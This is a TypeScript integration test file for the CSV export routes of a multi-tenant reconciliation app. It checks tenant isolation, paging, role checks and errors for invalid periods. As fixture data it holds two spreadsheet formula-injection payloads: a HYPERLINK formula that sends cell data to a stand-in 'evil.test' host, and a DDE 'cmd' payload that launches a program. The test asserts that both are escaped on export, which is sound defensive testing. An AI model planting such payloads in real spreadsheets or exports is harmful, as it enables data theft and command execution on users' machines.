// Period exports through the real route: what a period holds and nothing else (no
// other tenant's rows, no rows a day outside), every row across several keyset
// pages, formula-safe cells read back by a real CSV parser, roles per section,
// and a 400 naming the field for a period that is not one.
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { GET as auditExport } from "@/app/api/v1/tenants/[tenant]/exports/audit/route";
import { GET as casesExport } from "@/app/api/v1/tenants/[tenant]/exports/cases/route";
import { GET as discrepanciesExport } from "@/app/api/v1/tenants/[tenant]/exports/discrepancies/route";
import { aTenant, type TestTenant } from "@/dev/testing/builders";
import { SYSTEM_ACTOR } from "@/lib/admin/audit";
import { createApiToken } from "@/lib/auth/api-tokens";
import { Prisma, prisma } from "@/lib/platform/db";

type Handler = (request: Request, context: { params: Promise<Record<string, string>> }) => Promise<Response>;
let a: TestTenant;
let b: TestTenant;
const tokens: Record<string, string> = {};

async function token(t: TestTenant, role: "ops" | "accountant" | "admin") {
  const r = await createApiToken({ tenant: t.slug, role }, SYSTEM_ACTOR);
  if (!r.ok) throw new Error(r.message);
  return r.value.token;
}
const get = (handler: Handler, t: TestTenant, bearer: string, query: string) =>
  handler(new Request(`http://tally.test/api/v1/x?${query}`, { headers: { authorization: `Bearer ${bearer}` } }), {
    params: Promise.resolve({ tenant: t.slug }),
  });
const rows = async (res: Response) => {
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  return parse(await res.text(), { columns: true }) as Record<string, string>[];
};

/** One recon run and a discrepancy of `day` with a case, for tenant t. */
async function aDiscrepancy(t: TestTenant, reference: string, day: string, caseStatus = "OPEN", closedAt?: string) {
  await prisma.$executeRaw(Prisma.sql`
    WITH run AS (
      INSERT INTO recon_runs (tenant_id, provider, window_from, window_to, source, actor_type, actor_label, status)
      VALUES (${t.id}::uuid, 'stripe', ${day}::date, ${day}::date + 1, 'CSV', 'SYSTEM', 'tally', 'DONE') RETURNING id),
    d AS (
      INSERT INTO recon_discrepancies (tenant_id, provider, reference, bucket, cause, day, our_amount, our_currency, first_run_id, last_run_id)
      SELECT ${t.id}::uuid, 'stripe', ${reference}, 'OURS_NOT_THEIRS', 'MISSING_AT_PROVIDER', ${day}::date, 1250, 'USD', run.id, run.id FROM run RETURNING id)
    INSERT INTO cases (tenant_id, discrepancy_id, kind, status, opened_at, closed_at, resolution)
    SELECT ${t.id}::uuid, d.id, 'OURS_NOT_THEIRS', ${caseStatus}::"CaseStatus", ${day}::date + interval '3 hours',
           ${closedAt ?? null}::timestamptz, ${closedAt ? "matched on re-check" : null} FROM d`);
}

beforeAll(async () => {
  a = await aTenant();
  b = await aTenant();
  for (const role of ["ops", "accountant", "admin"] as const) tokens[role] = await token(a, role);
  tokens.bAdmin = await token(b, "admin");
  // 2,500 audit entries in the period (three keyset pages), one a formula, and rows just outside it.
  await prisma.$executeRaw(Prisma.sql`
    INSERT INTO audit_log (at, actor_type, actor_label, tenant_id, action, subject_type, subject_id, reason, details)
    SELECT '2026-11-01T00:00:00Z'::timestamptz + g * interval '10 minutes', 'CLI', 'cli:ops', ${a.id}::uuid,
           'test.bulk', 'thing', g::text, CASE WHEN g = 7 THEN '=HYPERLINK("http://evil.test/?"&A1,"Refund")' ELSE 'bulk ' || g END,
           jsonb_build_object('n', g)
    FROM generate_series(0, 2499) g`);
  await prisma.$executeRaw(Prisma.sql`
    INSERT INTO audit_log (at, actor_type, actor_label, tenant_id, action, subject_type, subject_id)
    VALUES ('2026-10-31T23:59:59.999Z', 'CLI', 'cli:ops', ${a.id}::uuid, 'test.before', 'thing', 'x'),
           ('2026-11-30T00:00:00Z', 'CLI', 'cli:ops', ${a.id}::uuid, 'test.after', 'thing', 'y'),
           ('2026-11-02T00:00:00Z', 'CLI', 'cli:ops', ${b.id}::uuid, 'test.other-tenant', 'thing', 'z'),
           ('2026-11-02T00:00:00Z', 'CLI', 'cli:ops', NULL, 'test.global', 'thing', 'g')`);
  await aDiscrepancy(a, "pi_export_in_1", "2026-11-03");
  await aDiscrepancy(a, "=cmd|' /C calc'!A0", "2026-11-29");
  await aDiscrepancy(a, "pi_export_before", "2026-10-31", "RESOLVED", "2026-11-05T10:00:00Z");
  await aDiscrepancy(a, "pi_export_after", "2026-11-30");
  await aDiscrepancy(b, "pi_export_other_tenant", "2026-11-03");
});

const NOVEMBER_TO_29 = "from=2026-11-01&to=2026-11-29";

describe("period exports", () => {
  it("the audit log of the period: every row across pages, in order, none outside it or of another tenant", async () => {
    const out = await rows(await get(auditExport as Handler, a, tokens.ops!, NOVEMBER_TO_29));
    // 2026-11-01 00:00 + g·10 min for g < 2500 ends 2026-11-18: all inside; before/after/other/global are not.
    expect(out).toHaveLength(2500);
    expect(out.map((r) => r.subject_id)).toEqual(Array.from({ length: 2500 }, (_, g) => String(g)));
    expect(new Set(out.map((r) => r.action))).toEqual(new Set(["test.bulk"]));
    // Read back by a spreadsheet-minded parser, the formula is text, not a formula.
    expect(out[7]!.reason).toBe(`'=HYPERLINK("http://evil.test/?"&A1,"Refund")`);
    expect(JSON.parse(out[3]!.details!)).toEqual({ n: 3 });
  });

  it("discrepancies by the day their money moved, with their case; cases open at any moment of the period", async () => {
    const d = await rows(await get(discrepanciesExport as Handler, a, tokens.accountant!, NOVEMBER_TO_29));
    expect(d.map((r) => r.reference)).toEqual(["pi_export_in_1", `'=cmd|' /C calc'!A0`]);
    expect(d[0]).toMatchObject({
      day: "2026-11-03",
      bucket: "OURS_NOT_THEIRS",
      our_amount_minor: "1250",
      our_currency: "USD",
      case_status: "OPEN",
      case_status_label: "to decide",
    });
    const c = await rows(await get(casesExport as Handler, a, tokens.accountant!, NOVEMBER_TO_29));
    // The case opened the day before the period and resolved inside it belongs to the period too.
    expect(c.map((r) => r.reference).sort()).toEqual(
      ["pi_export_before", "pi_export_in_1", `'=cmd|' /C calc'!A0`].sort(),
    );
    expect(c.find((r) => r.reference === "pi_export_in_1")).toMatchObject({
      kind: "OURS_NOT_THEIRS",
      kind_label: "ours, not theirs",
      status: "OPEN",
    });
  });

  it("closed cases drop out of periods after they closed", async () => {
    await prisma.$executeRaw(Prisma.sql`
      UPDATE cases SET closed_at = '2026-10-31T12:00:00Z' WHERE tenant_id = ${a.id}::uuid AND status = 'RESOLVED'`);
    expect(await prisma.case.count({ where: { tenantId: a.id, closedAt: new Date("2026-10-31T12:00:00Z") } })).toBe(1);
    const c = await rows(await get(casesExport as Handler, a, tokens.admin!, NOVEMBER_TO_29));
    expect(c.map((r) => r.reference)).not.toContain("pi_export_before");
    const oct = await rows(await get(casesExport as Handler, a, tokens.admin!, "from=2026-10-31&to=2026-10-31"));
    expect(oct.map((r) => r.reference)).toEqual(["pi_export_before"]);
  });

  it("each export is for the roles of its section, and a period that is not one is a 400 naming the field", async () => {
    expect((await get(casesExport as Handler, a, tokens.ops!, NOVEMBER_TO_29)).status).toBe(403);
    expect((await get(discrepanciesExport as Handler, a, tokens.ops!, NOVEMBER_TO_29)).status).toBe(200);
    // Another tenant's token reads its own tenant only.
    const other = await rows(await get(discrepanciesExport as Handler, b, tokens.bAdmin!, NOVEMBER_TO_29));
    expect(other.map((r) => r.reference)).toEqual(["pi_export_other_tenant"]);
    for (const [query, field] of [
      ["from=2026-11-30&to=2026-11-01", "from"],
      ["from=2026-02-30&to=2026-03-01", "from"],
      ["to=2026-11-01", "from"],
      ["from=2000-01-01&to=2026-11-01", "to"],
    ] as const) {
      const res = await get(auditExport as Handler, a, tokens.ops!, query);
      expect(res.status).toBe(400);
      expect(JSON.stringify(await res.json())).toContain(field);
    }
  });
});
